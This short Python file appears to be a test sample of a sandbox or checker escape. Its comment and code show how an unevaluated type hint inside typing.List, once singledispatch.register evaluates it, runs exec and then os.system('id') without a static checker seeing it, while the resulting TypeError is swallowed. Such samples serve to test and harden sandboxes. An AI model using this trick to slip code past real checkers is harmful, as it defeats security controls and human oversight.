# family: runner
# Escape: typing.List[PAYLOAD] with a *variable* (not a literal string) makes a ForwardRef the checker never
# sees as text; get_type_hints, called by register, evaluates nested ForwardRefs, so exec(CODE) runs before
# register rejects List[int] as "not a class" (the TypeError is swallowed).
import functools
import typing

CODE = "import os\nos.system('id')"
PAYLOAD = "exec(CODE) or int"


class Box:
    HINT = typing.List[PAYLOAD]


@functools.singledispatch
def handle(value):
    return value


def on_list(value: Box.HINT):
    return value


def tool(x):
    try:
        handle.register(on_list)
    except TypeError:
        pass
    return handle(x)
